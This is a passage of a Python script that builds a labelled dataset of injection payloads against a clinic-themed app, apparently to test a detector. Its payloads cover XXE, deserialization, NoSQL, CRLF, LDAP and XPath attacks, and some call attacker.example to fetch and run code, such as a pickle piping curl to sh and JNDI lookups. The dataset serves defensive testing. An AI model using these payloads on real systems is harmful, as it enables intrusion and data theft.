    ("csv-formula", "O'Neil;Kate;=DDE(\"cmd\";\"/C calc\";\"x\");2022-05-03"),
    ("csv-formula", "\t=HYPERLINK(\"http://203.0.113.99/steal\",\"click\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE job [<!ENTITY xx SYSTEM \"file:///etc/passwd\">]><job><id>&xx;</id></job>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE lab [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><lab><tint>&s;</tint></lab>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hosts\"/>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY k SYSTEM \"file:///proc/self/environ\">]><text>&k;</text></svg>"),
    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA=="),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example/pk|sh'\ntR."),
    ("deserialization", "!!python/object/apply:os.system ['id']"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}"),
    ("deserialization", "a:2:{i:0;O:15:\"Monolog\\Handler\":1:{s:6:\"buffer\";s:2:\"id\";}i:1;i:7;}"),
    ("deserialization", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
]
CODE_PREFIXES = ["Hi {{first_name}},", "Recall note for Mr Okafor:", "Frame colour:",
                 "Lab comment:", "Subject: your eye test"]
CODE_POOL = ["{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
             "${jndi:ldap://attacker.example/k}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
             "<%= system('id') %>", "#{T(java.lang.System).exit(0)}"]

A["nosqli"] = [
    ("operator", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"surname\": {\"$regex\": \".*\"}, \"nhs_number\": {\"$exists\": true}}"),
    ("operator", "{\"booking_ref\": {\"$gt\": \"\"}}"),
    ("operator", "{\"patient_id\": {\"$in\": [1,2,3,4,5,6,7,8,9]}, \"$comment\": \"dump\"}"),
    ("operator", "{\"email\": \"jo.bloggs@example.org\", \"password\": {\"$nin\": [\"x\"]}}"),
    ("operator", "{\"$or\": [{\"role\": \"admin\"}, {\"role\": {\"$ne\": \"\"}}]}"),
    ("operator", "{\"password_hash\": {\"$regex\": \"^\\\\$2b\\\\$1\"}}"),
    ("operator", "{\"order\": {\"$exists\": true}, \"price\": {\"$lt\": 100000}}"),
    ("bracket", "username[$ne]=x&password[$ne]=x"),
    ("bracket", "surname[$regex]=^O.*&dob[$gt]="),
    ("bracket", "booking_ref[$exists]=true"),
    ("bracket", "email[$regex]=.*@&password[$gt]="),
    ("bracket", "patient[$where]=1"),
    ("bracket", "order_id[%24ne]=0"),
    ("where", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
    ("where", "'; return true; var x='"),
    ("where", "1'; sleep(6000); var y='1"),
    ("where", "{\"$where\": \"function(){return this.password_hash.match(/^a/)}\"}"),
    ("where", "Smith' || this.password_hash[0]=='$' || 'a'=='b"),
    ("where", "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("aggregation", "{\"$group\": {\"_id\": \"$password_hash\"}}"),
    ("aggregation", "[{\"$match\": {}}, {\"$out\": \"patients\"}]"),
    ("couch-redis", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"nhs_number\", \"dob\"]}"),
    ("couch-redis", "recall:*\r\nFLUSHALL\r\n"),
    ("couch-redis", "x\"); db.patients.drop(); (\""),
    ("operator", "{\"cl_order\": \"CL-3321\", \"status\": {\"$type\": 2}, \"$and\": [{\"paid\": {\"$ne\": true}}]}"),
]

A["crlf"] = [
    ("log-forging", "smith\n2024-06-14 10:32:01 INFO user=admin action=login result=success ip=10.0.0.2"),
    ("log-forging", "CL-3321\r\n[AUDIT] prescription 4471 deleted by dr.shah"),
    ("log-forging", "O'Hara%0a2024-06-14T11:00:00Z level=info msg=\"refund approved\" amount=999"),
    ("log-forging", "job 55821%0d%0a[INFO] lab_user=root granted admin"),
    ("log-forging", "x\n\n=== LOG ROTATED ===\n"),
    ("log-forging", "eye test saturday\r\n127.0.0.1 - - [14/Jun/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging", "Patel\u2028FAKE: staff password reset OK"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-injection", "clearview%0d%0aLocation:%20https://attacker.example/login"),
    ("header-injection", "/book?ref=recall%0D%0AX-Forwarded-Host:%20attacker.example"),
    ("header-injection", "recall.csv\r\nContent-Disposition: attachment; filename=update.exe"),
    ("header-injection", "inline%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header-injection", "nl%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "x%0aRefresh:%200;url=https://attacker.example/"),
    ("response-splitting", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "fr\r\n\r\n<html><body>Your session expired, <a href=https://attacker.example/>log in</a></body></html>"),
    ("response-splitting", "/thanks%0D%0A%0D%0A%3Cscript%3Efetch('//attacker.example')%3C/script%3E"),
    ("response-splitting", "%0d%0aTransfer-Encoding: chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET /admin HTTP/1.1%0d%0aHost: localhost"),
    ("mail-header", "kate.oneil@example.org\r\nBcc: list@attacker.example"),
    ("mail-header", "Your eye test\r\nCc: everyone@attacker.example\r\nX-Priority: 1"),
    ("mail-header", "Sam Lee <sam@example.org>%0aBcc:harvest@attacker.example"),
    ("mail-header", "jo@example.org\nContent-Type: text/html\n\n<a href=https://attacker.example/pay>Pay your invoice</a>"),
    ("mail-header", "Recall reminder%0d%0aReply-To:%20billing@attacker.example"),
    ("mail-header", "patient@example.org\r\nSubject: Urgent: confirm card details\r\n\r\nClick https://attacker.example/nhs"),
    ("mail-header", "x@example.org%0ATo:%20all-patients@attacker.example"),
    ("csv-row", "Smith\",\"-2.00\",\"2024-01-05\"\n\"=HYPERLINK(\"\"https://attacker.example\"\")\",\"x\",\"y"),
    ("csv-row", "O'Neil;Kate;1980-02-11;2022-05-03\nghost;admin;1970-01-01;=cmd|' /C calc'!A0"),
    ("csv-row", "Patel\r\n4999,Injected,-0.00/-0.00x0,@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-row", "AC-ROUND-48-C2;3;ALB01\nAC-ROUND-48-C2;-500;ALB01\n=1+1;1;x"),
    ("header-injection", "Mozilla/5.0\r\nX-Original-URL: /admin/export"),
]

A["ldap-xpath"] = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "dr.shah)(|(objectClass=*)"),
    ("ldap", "admin*)((|userPassword=*)"),
    ("ldap", "*)(memberOf=cn=practice-admins,ou=groups,dc=clearview,dc=local"),
    ("ldap", "O'Hara*)(|(mail=*)(telephoneNumber=*"),
    ("ldap", "*))%00"),
    ("ldap", "x)(!(cn=nobody))(cn=*"),
    ("ldap", "tom*)(userPassword=a*"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "*)(|(cn=*)(sn=*)(description=*"),
    ("xpath", "' or '1'='1"),
    ("xpath", "smith' or name()='patient' or 'a'='b"),
    ("xpath", "x'] | //staff/user[role='admin"),
    ("xpath", "' or count(/patients/patient)>0 or '"),
    ("xpath", "'] | //*[contains(password,'a')] | /x['"),
    ("xpath", "4471' and substring(//user[1]/password,1,1)='p"),
    ("xpath", "' or string-length(name(/*[1]))=8 or ''='"),
    ("xpath", "x') or ('1'='1"),
    ("xpath", "Patel' or doc('http://attacker.example/x')//a or '"),
    ("xpath", "']/../../..//* | //prescription[sph='"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    with open(os.path.join(HERE, "benign.jsonl"), encoding="utf-8") as f:
        benign = {json.loads(line)["value"] for line in f}

    rows = []  # (cat, cls, value, literal?)
    seen = set()

    def add(cat, cls, v, lit):
        assert 1 <= len(v) <= 2000, v
        assert v not in seen, ("dup", v)
        assert v not in benign, ("benign clash", v)
        for ch in v:
            o = ord(ch)
            assert o >= 32 or ch in "\n\r\t", ("ctrl", v)
        seen.add(v)
        rows.append((cat, cls, v, lit))

    def gen_join(cat, prefixes, pool, n, seps=(" ", " -- ")):
        # each pool payload used once; prefixes drawn from the hand-written pool
        items = list(pool)
        rng.shuffle(items)
        assert len(items) >= n
        for q in items[:n]:
            p = rng.choice(prefixes)
            if q[0] in "';$`\"" or q.startswith(" "):
                sep = ""
            elif p[-1] in ":,":
                sep = " "
            else:
                sep = rng.choice(seps)
            add(cat, "prefix-join", p + sep + q, False)

    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    for cat in order:
        for cls, v in A[cat]:
            add(cat, cls, v, True)
        if cat == "sqli":
            for v in SQLI_URLENC_POOL:
                add(cat, "mixed+urlencode", urlencode_all(v), False)
            gen_join("sqli", SQLI_PREFIXES, SQLI_SUFFIX_POOL, 6, seps=("",))
        elif cat == "xss":
            gen_join("xss", XSS_PREFIXES, XSS_POOL, 10)
        elif cat == "cmdi":
            gen_join("cmdi", CMDI_PREFIXES, CMDI_POOL, 8, seps=("",))
        elif cat == "traversal":
            for v in TRAV_URLENC_POOL:
                add(cat, "dotdot+urlencode", urlencode_all(v), False)
        elif cat == "code":
            gen_join("code", CODE_PREFIXES, CODE_POOL, 4)

    out = os.path.join(HERE, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, _lit) in enumerate(rows, 1):
            obj = {"id": "hamd-%05d" % i, "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total = len(rows)
    lits = sum(1 for r in rows if r[3])
    for cat in order:
        n = sum(1 for r in rows if r[0] == cat)
        nl = sum(1 for r in rows if r[0] == cat and r[3])
        print("%s n=%d literals=%d" % (cat, n, nl))
    print("total=%d literals=%d (%.1f%%)" % (total, lits, 100.0 * lits / total))


if __name__ == "__main__":
    main()
